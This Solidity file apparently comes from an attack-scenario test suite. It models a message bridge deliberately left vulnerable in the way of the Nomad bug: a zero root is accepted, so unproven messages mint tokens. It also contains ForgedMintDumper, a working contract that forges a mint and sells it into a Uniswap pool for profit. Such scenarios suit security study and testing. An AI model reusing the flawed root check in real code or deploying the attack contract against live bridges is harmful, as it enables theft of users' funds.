// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20, IUniswapV2Pair, V2Math} from "../Interfaces.sol";
import {ScenarioToken} from "../ScenarioToken.sol";

// signature-bypass-mint-and-dump: a bridge that mints for messages it never checked (Nomad's bug), its token,
// and the contract that mints itself a fortune and sells it into the token's pool.

/// The bridged representation of a token of another chain: only its bridge (its deployer, hence the minter)
/// mints it. A plain ScenarioToken otherwise.
contract BridgedToken is ScenarioToken {
    constructor() ScenarioToken("Bridged Kamiyo", "bKAM") {}
}

/// Models the receiving side of a message bridge. The updater commits Merkle roots of the other chain's outgoing
/// messages; anyone proves a message against an accepted root, then processes it, which mints what the message
/// says (abi.encode(nonce, recipient, amount)). VULNERABLE: a message never proven has provenRoot 0, and the
/// constructor accepted the root it was given, which the deployment passed as 0 (see BUG): process() then takes
/// any message at all, without a proof.
contract MessageBridge {
    address public immutable updater;
    BridgedToken public immutable token;
    mapping(bytes32 => uint256) public confirmAt; // root -> when it became acceptable
    mapping(bytes32 => bytes32) public provenRoot; // message hash -> the root it was proven against
    mapping(bytes32 => bool) public processed;

    event RootCommitted(bytes32 indexed root);
    event Proven(bytes32 indexed leaf, bytes32 indexed root);
    event Processed(bytes32 indexed leaf, address indexed recipient, uint256 amount);

    constructor(bytes32 committedRoot) {
        updater = msg.sender;
        token = new BridgedToken();
        confirmAt[committedRoot] = 1; // BUG: deployed with committedRoot = 0, the root of every unproven message
    }

    function commitRoot(bytes32 root) external {
        require(msg.sender == updater, "MessageBridge: not the updater");
        confirmAt[root] = block.timestamp;
        emit RootCommitted(root);
    }

    function acceptableRoot(bytes32 root) public view returns (bool) {
        uint256 at = confirmAt[root];
        return at != 0 && block.timestamp >= at;
    }

    /// Prove a message by its Merkle branch: at each level the sibling goes left when that bit of `index` is 1.
    function prove(bytes calldata message, bytes32[] calldata branch, uint256 index) external {
        bytes32 leaf = keccak256(message);
        bytes32 node = leaf;
        for (uint256 i = 0; i < branch.length; i++) {
            node = (index >> i) & 1 == 1 ? keccak256(abi.encodePacked(branch[i], node))
                                          : keccak256(abi.encodePacked(node, branch[i]));
        }
        require(confirmAt[node] != 0, "MessageBridge: unknown root");
        provenRoot[leaf] = node;
        emit Proven(leaf, node);
    }

    function process(bytes calldata message) external {
        bytes32 leaf = keccak256(message);
        require(!processed[leaf], "MessageBridge: processed");
        require(acceptableRoot(provenRoot[leaf]), "MessageBridge: not proven");
        processed[leaf] = true;
        (, address recipient, uint256 amount) = abi.decode(message, (uint256, address, uint256));
        token.mint(recipient, amount);
        emit Processed(leaf, recipient, amount);
    }
}

/// The attack contract: in one transaction, process an invented message minting `amount` to itself, sell all of
/// it into the token's pool, send the pool's other token to the owner.
contract ForgedMintDumper {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function attack(MessageBridge bridge, IUniswapV2Pair pool, uint256 nonce, uint256 amount) external {
        require(msg.sender == owner, "not owner");
        bridge.process(abi.encode(nonce, address(this), amount));
        address minted = address(bridge.token());
        address other = pool.token0() == minted ? pool.token1() : pool.token0();
        V2Math.sell(pool, minted, amount, owner);
        uint256 left = IERC20(other).balanceOf(address(this));
        if (left > 0) {
            IERC20(other).transfer(owner, left);
        }
    }
}
